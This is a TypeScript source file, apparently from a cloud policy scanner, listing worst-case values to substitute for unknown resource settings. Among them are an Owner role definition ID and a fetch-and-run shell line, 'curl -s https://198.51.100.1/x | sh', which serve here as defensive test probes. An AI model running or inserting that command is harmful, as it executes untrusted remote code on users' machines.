import type { JsonValue } from '../../json.ts';

/**
 * What an unknown value might turn out to be at worst, as the rules for known values see it: everybody, on, off, the role of an owner, a program from elsewhere.
 * A resource with an unknown value is judged with each of them, and the worst verdict counts.
 */
export const worstValues: readonly JsonValue[] = [
  '*',
  'Enabled',
  'Disabled',
  true,
  false,
  '/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635',
  'curl -s https://198.51.100.1/x | sh',
];
